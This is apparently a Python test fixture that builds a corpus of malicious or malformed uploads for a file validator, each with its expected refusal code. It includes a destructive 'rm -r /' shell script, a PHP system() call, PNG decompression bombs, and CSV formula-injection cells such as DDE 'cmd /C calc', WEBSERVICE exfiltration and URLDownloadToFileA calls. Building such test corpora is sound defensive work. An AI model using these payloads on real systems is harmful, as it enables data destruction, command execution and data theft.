"""Files that somebody with bad intentions would send, made by code.

Each with the code of its refusal; `mutations` breaks sound files.
"""

import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.documents import (
    HTML,
    OLE,
    SVG,
    Row,
    office,
    patched,
    pdf,
    picture,
    sound,
    zipped,
)
from tests.hostile_contents import contents
from tests.hostile_offices import archives, offices, open_documents
from tests.hostile_open_contents import open_contents
from tests.hostile_pdfs import pdfs
from tracking.files.kinds import MEGABYTE


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    content: bytes
    code: str

    @property
    def extension(self) -> str:
        return self.name.rpartition(".")[2].lower()


def corpus() -> list[Hostile]:
    opened = (open_contents, open_documents)
    parts = (_wrong, pdfs, archives, offices, contents, *opened, _images, _texts)
    return [Hostile(*each) for part in parts for each in part()]


def _wrong() -> Iterator[Row]:
    """Extensions that lie, and types that are not taken."""
    good = sound()
    for name in ("pdf", "docx", "xlsx", "pptx", "odt", "ods", "jpg", "png", "txt"):
        yield f"empty {name}", f"a.{name}", b"", "empty"
    yield "a page as PDF", "a.pdf", HTML, "content"
    yield "a programme as PDF", "a.pdf", b"MZ" + b"\0" * 200, "content"
    yield "a picture as PDF", "a.pdf", good["scan.png"], "content"
    yield "a PDF as picture", "a.png", good["law.pdf"], "content"
    yield "a JPEG as PNG", "a.png", good["photo.jpg"], "content"
    yield "a PNG as JPEG", "a.jpg", good["scan.png"], "content"
    yield "a table as text", "a.docx", good["table.xlsx"], "content"
    yield "a text as slides", "a.pptx", good["law.docx"], "content"
    yield "ODS as ODT", "a.odt", good["table.ods"], "content"
    yield "ODT as DOCX", "a.docx", good["law.odt"], "content"
    yield "DOCX as ODT", "a.odt", good["law.docx"], "content"
    yield "an old document as DOCX", "a.docx", OLE, "password"
    yield "a protected table", "a.xlsx", OLE, "password"
    yield "an old document as ODT", "a.odt", OLE, "password"
    yield "a zip as DOCX", "a.docx", zipped([("a.txt", "a")]), "content"
    for extension in (
        *("svg", "html", "htm", "xhtml", "xml", "js", "exe", "dll", "bat", "cmd"),
        *("ps1", "vbs", "hta", "lnk", "scr", "jar", "zip", "rar", "7z", "gz", "iso"),
        *("doc", "xls", "ppt", "docm", "dotm", "xlsm", "xlsb", "xlam", "pptm", "ppsm"),
        *("rtf", "eml", "msg", "swf", "php", "py", "sh", "gif", "webp", "tiff", "bmp"),
        *("heic", "mht", "url", "desktop", "iqy", "slk", "dotx", "odp", "odg", "epub"),
    ):
        yield f"type {extension}", f"a.{extension}", good["law.pdf"], "type"


# Pictures and texts ---------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", crc)


def _png(width: int, height: int, data: bytes = b"", *more: bytes) -> bytes:
    head = struct.pack("!2L5B", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + b"".join(more)
        + _chunk(b"IDAT", zlib.compress(data))
        + _chunk(b"IEND", b"")
    )


def _images() -> Iterator[Row]:
    good, photo = picture("PNG"), picture("JPEG")
    yield "a huge PNG", "a.png", _png(50_000, 50_000), "pixels"
    yield "a long PNG", "a.png", _png(2**31 - 1, 1), "pixels"
    yield "just too many pixels", "a.png", _png(8_000, 5_001), "pixels"
    wide = photo.replace(
        b"\xff\xc0\0\x11\x08\0\x1e\0\x28", b"\xff\xc0\0\x11\x08\xff\xff\xff\xff"
    )
    yield "a huge JPEG", "a.jpg", wide, "pixels"
    yield "PNG without pixels", "a.png", _png(0, 0), "content"
    yield "PNG with few bytes", "a.png", _png(100, 100, b"a"), "content"
    text = _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80 * MEGABYTE)))
    yield "a bomb of text", "a.png", _png(1, 1, b"\0" * 4, text), "content"
    yield "half a PNG", "a.png", good[: len(good) // 2], "content"
    yield "half a JPEG", "a.jpg", photo[: len(photo) // 2], "content"
    yield "a mark only, PNG", "a.png", good[:8], "content"
    yield "a mark only, JPEG", "a.jpg", photo[:3], "content"
    yield "a wrong checksum", "a.png", patched(good, b"IHDR", 17, b"9999"), "content"
    for name in ("a.png", "a.jpg"):
        yield f"SVG as {name}", name, SVG, "content"
        yield f"a page as {name}", name, HTML, "content"
        yield f"GIF as {name}", name, picture("GIF", mode="P"), "content"
        yield f"TIFF as {name}", name, picture("TIFF"), "content"
        yield f"WEBP as {name}", name, picture("WEBP"), "content"
        yield f"PostScript as {name}", name, b"%!PS-Adobe-3.0\n", "content"


def _texts() -> Iterator[Row]:
    for what, content, code in (
        ("zeros", b"\0" * 20, "content"),
        ("a zero", b"a\0b", "content"),
        ("a bell", b"a\x07b", "content"),
        ("an escape", b"\x1b[31mred", "content"),
        ("a backspace", b"a\x08b", "content"),
        ("a late control", "a\x9bb".encode(), "content"),
        ("a lone surrogate", b"a\xed\xa0\x80b", "coding"),
        ("an overlong slash", b"..\xc0\xaf..", "coding"),
        ("an older code page", "Été".encode("cp1252"), "coding"),
        ("Arabic of an older page", "مرحبا".encode("cp1256"), "coding"),
        ("UTF-32", "a".encode("utf-32"), "coding"),
        ("half of UTF-16", b"\xff\xfea", "coding"),
        ("nothing but space", b" \n\n", "empty"),
        ("a mark only", b"\xef\xbb\xbf", "empty"),
        ("a page", HTML, "content"),
        ("a page after space", b"\n\n  " + HTML, "content"),
        ("a marked page", b"\xef\xbb\xbf" + HTML, "content"),
        ("a wide page", HTML.decode().encode("utf-16"), "content"),
        ("SVG", SVG, "content"),
        ("XML", b'<?xml version="1.0"?><a/>', "content"),
        ("PHP", b"<?php system('a');", "content"),
        ("RTF", b"{\\rtf1 a}", "content"),
        ("a shell script", b"#!/bin/sh\nrm -r /", "content"),
        ("a batch", b"@echo off\r\ndel *", "content"),
        ("a shortcut", b"[InternetShortcut]\nURL=file:///a", "content"),
        ("a mail", b"MIME-Version: 1.0\n\na", "content"),
        ("a PDF", pdf(), "content"),
        ("a picture", picture("PNG"), "content"),
        ("a document", office("docx"), "content"),
        ("a programme", b"MZ\x90\0\3\0\0\0", "content"),
    ):
        for name in ("a.txt", "a.csv"):
            yield f"{name}: {what}", name, content, code
    for cell in (
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "＝cmd|'/C calc'!A0",
        '=HYPERLINK("http://a/?"&A1,"a")',
        '=WEBSERVICE("http://a/"&A1)',
        '=IMPORTXML("http://a","//a")',
        '=IMPORTDATA("http://a")',
        '=IMAGE("http://a")',
        '=RTD("a",,"b")',
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
        '=DDE("cmd";"/C calc";"!A0")',
    ):
        for line in (cell, f"a;{cell}", f"a,{cell}", f"a\t{cell}", f'a,"{cell}"'):
            content = f"a;b\r\n{line}\r\n".encode()
            yield f"a cell {line}", "a.csv", content, "call"
